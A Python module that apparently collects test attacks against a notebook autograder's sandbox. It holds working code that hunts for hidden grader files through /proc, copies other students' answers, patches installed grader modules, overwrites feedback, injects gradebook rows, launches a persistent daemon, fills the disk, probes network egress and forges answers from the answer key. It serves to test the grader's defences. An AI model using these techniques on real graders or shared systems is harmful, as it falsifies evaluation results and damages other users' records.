"""The code of the corpus's attacks, as a student who has read the kit's source would write it.

Each escape starts from ``FIND``: the places a grader's files could be (the checkout above the installed
package, the folders above the working directory, every path on the command line of every process it
can see, ``/proc/<pid>/cmdline`` included). An escape that works changes the row (full marks, a point,
an injected row, a ``grader_error`` from a changed kit); one that fails leaves ``df = None``.
"""

FIND = '''import glob, os, pathlib, sys
import shipml
df = None
def _places():
    out = set()
    here = pathlib.Path(shipml.__file__).resolve().parent
    out.update(str(p) for p in [here, *here.parents])
    out.update(str(p) for p in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents])
    for cmd in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(cmd, "rb").read().split(b"\\0")
        except OSError:
            continue
        for a in args:
            a = a.decode(errors="replace")
            if a.startswith("/") and len(a) < 300:
                out.update(str(p) for p in [pathlib.Path(a), *pathlib.Path(a).parents])
    return sorted(p for p in out if p not in ("/", "/usr", "/proc", "/dev", "/sys"))
def _glob(*patterns):
    hits = []
    for place in _places():
        for pattern in patterns:
            hits += glob.glob(os.path.join(place, pattern), recursive=False)
    return sorted(set(hits))
'''

RUN_ANSWERS = '''def _run_answers_of(path):
    import json
    nb = json.load(open(path))
    code = []
    for c in nb["cells"]:
        src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
        if "answer" in c.get("metadata", {}).get("tags", []) and "YOUR CODE HERE" not in src:
            code.append("\\n".join(ln for ln in src.splitlines() if not ln.strip().startswith(("# BEGIN", "# END"))))
    exec("\\n".join(code), globals())
'''

ESCAPES = {
    # the --hidden file, found on the grader's command line
    "read_hidden_via_proc": FIND + '''
for path in _glob("hidden*.py", "*/hidden*.py", "corpus/hidden*.py"):
    if "HIDDEN" in open(path).read():
        from shipml.data import make_transactions
        df = make_transactions(20_000, seed=seed)  # one point if the hidden checks were readable
        break''',
    # classmates' results, feedback, executed notebooks and submissions written earlier in this run
    "copycat": FIND + RUN_ANSWERS + '''
import json
for path in _glob("results/lab00/*.json", "*/results/lab00/*.json", "executed/lab00/*.ipynb",
                  "*/executed/lab00/*.ipynb", "*.ipynb", "subs/*.ipynb"):
    try:
        if path.endswith(".ipynb") and "correct" in path:
            _run_answers_of(path)
            break
    except Exception:
        pass''',
    # code appended to installed kit modules the grader might import later (lazily)
    "patch_kit_module": FIND + '''
payload = "\\nimport os as _o; _o.environ['SHIPML_PWNED'] = '1'\\n"
for name in ("grading/report.py", "grading/verdicts.py", "grading/keys/__init__.py", "checks/__init__.py",
             "show.py"):
    try:
        with open(pathlib.Path(shipml.__file__).parent / name, "a") as f:
            f.write(payload)
    except OSError:
        pass''',
    # the lab the grader rebuilds every submission from
    "edit_labs": FIND + '''
for path in _glob("labs/lab00_*.ipynb", "*/labs/lab00_*.ipynb"):
    try:
        with open(path, "a") as f:
            f.write(" ")
    except OSError:
        pass''',
    # other students' feedback and the gradebook
    "rewrite_feedback": FIND + '''
for path in _glob("feedback/lab00/*.md", "*/feedback/lab00/*.md", "results/lab00/*.json", "*/results/lab00/*.json"):
    try:
        open(path, "w").write("# hacked: your score is 0\\n")
    except OSError:
        pass''',
    "inject_gradebook": FIND + '''
for path in _glob("gradebook.csv", "*/gradebook.csv"):
    try:
        with open(path, "a") as f:
            f.write("zz_injected,lab00,1,pass,2,pass,1,pass,1,pass,5,5,ok,\\n")
    except OSError:
        pass''',
    # a daemon in its own session that outlives the notebook and keeps trying for ten minutes
    "daemon": FIND + '''
import subprocess, textwrap
loop = textwrap.dedent("""
    import glob, os, time
    deadline = time.time() + 600
    while time.time() < deadline:
        for path in glob.glob("/**/gradebook.csv", recursive=True):
            try:
                open(path, "a").write("zz_daemon,lab00,,,,,,,,,5,5,ok,\\\\n")
            except OSError:
                pass
        time.sleep(0.5)
""")
subprocess.Popen([sys.executable, "-c", loop], start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)''',
    # 1 GiB into the job folder: the cap stops it (the cell then raises OSError)
    "fill_job_folder": '''df = None
with open("filler.bin", "wb") as f:
    for _ in range(1024):
        f.write(b"\\0" * 2**20)''',
    # the network: one point if any connection leaves the sandbox
    "network": '''import socket
df = None
for host, port in [("1.1.1.1", 53), ("pypi.org", 443), ("172.17.0.1", 2375)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        from shipml.data import make_transactions
        df = make_transactions(20_000, seed=seed)
        break
    except OSError:
        pass''',
}

READ_SOLUTIONS = FIND + RUN_ANSWERS + '''
for path in _glob("solutions/{lab}_*.ipynb", "*/solutions/{lab}_*.ipynb"):
    _run_answers_of(path)
    break'''

FIRST = {"lab00": "answer-data", "lab01": "answer-chunks", "lab05": "answer-input_types", "lab07": "answer-gate"}


def _patched_collect(lab: str, question: str, reference: str, old: str, answer_var: str, stub: str) -> str:
    """Replace one question's ``collect`` with one that returns the answer key's reference."""
    return f'''{stub}
import dataclasses
from shipml import checks
def _reference(seed):
    try:
        from shipml.grading.keys.{lab} import {reference} as ref   # the grader's answer key
    except ImportError:
        from shipml.checks.{lab} import {old} as ref               # where it lived before
    r = ref(seed)
    return r[1] if isinstance(r, tuple) else r
_questions = checks.questions
checks.questions = lambda lab: [dataclasses.replace(q, collect=lambda a, ctx: _reference(ctx.seed))
                                if q.id == "{question}" else q for q in _questions(lab)]
{answer_var} = "anything: the patched collect ignores it"'''


def _transformer(lab: str, question: str, reference: str, stub: str) -> str:
    """An IPython input transformer that rewrites the question's check cell to export the key's answer."""
    return f'''{stub}
def _rewrite(lines):
    if any('checks.check("{question}"' in line for line in lines):
        return ["from shipml.grading.keys.{lab} import {reference} as _ref\\n",
                'checks.check("{question}", _ref(seed))\\n']
    return lines
get_ipython().input_transformers_cleanup.append(_rewrite)'''


def _thread(lab: str, question: str, reference: str, stub: str) -> str:
    """A thread that swaps the question's exported record for the key's answer while the check cell runs."""
    return f'''{stub}
import json, threading, time
from shipml import checks
def _swap():
    from shipml.grading.keys.{lab} import {reference} as ref
    forged = json.dumps({{"question": "{question}", "answer": checks.to_plain(ref(seed))}})
    deadline = time.time() + 300
    while time.time() < deadline:
        text = open(answers_path).read()
        if '"question": "{question}"' in text:
            lines = [forged if '"question": "{question}"' in ln else ln for ln in text.splitlines()]
            open(answers_path, "w").write("\\n".join(lines) + "\\n")
            return
        time.sleep(0.001)
threading.Thread(target=_swap, daemon=True).start()'''


def _key_attacks(lab: str, cell: str, question: str, reference: str, old: str, answer_var: str, stub: str):
    return {
        "patched_collect": (cell, _patched_collect(lab, question, reference, old, answer_var, stub)),
        "input_transformer": (cell, _transformer(lab, question, reference, stub)),
        "thread_swaps_record": (cell, _thread(lab, question, reference, stub)),
    }


KEY_ATTACKS = {
    "lab00": _key_attacks("lab00", "answer-proba", "proba", "reference", "_reference", "proba",
                          "proba = None"),
    "lab01": _key_attacks("lab01", "answer-chunks", "chunks", "reference_proba", "_reference_proba",
                          "score_file_in_chunks", "score_file_in_chunks = None"),
    "lab05": _key_attacks("lab05", "answer-session", "session", "session_reference", "_session_reference",
                          "session", "session = None"),
    # lab07's gate has no reference to reach for: the attack that scored 3/3 before its rules were made stricter
    # than the kit's was a collect patched to compute the verdicts with the pipeline's own check_gates
    "lab07": {"patched_collect_kit_gates": ("answer-gate", '''import dataclasses
from shipml import checks
from shipml.checks import lab07 as _lab
from shipml.pipeline.config import Gates
from shipml.pipeline.gates import check_gates
def _kit(ctx):
    out = []
    for current, candidate in _lab.gate_cases(ctx.seed):
        lost = [k for k in _lab.METRICS if k not in candidate or candidate[k] != candidate[k]]
        if lost:
            out.append({"passed": False, "reason": f"{lost[0]} is missing or NaN"})
            continue
        bad = [g for g in check_gates({"brier": 0.01, **candidate}, current, Gates()) if not g.passed]
        out.append({"passed": not bad, "reason": bad[0].message if bad else "ok"})
    examples = [{"passed": want, "reason": "roc_auc ece slice_rows"} for _, _, want in _lab.documented_gate_examples()]
    return {"cases": out, "examples": examples}
_questions = checks.questions
checks.questions = lambda lab: [dataclasses.replace(q, collect=lambda a, ctx: _kit(ctx)) if q.id == "gate" else q
                                for q in _questions(lab)]
my_gate = lambda current, candidate: (True, "anything: the patched collect ignores it")''')},
}
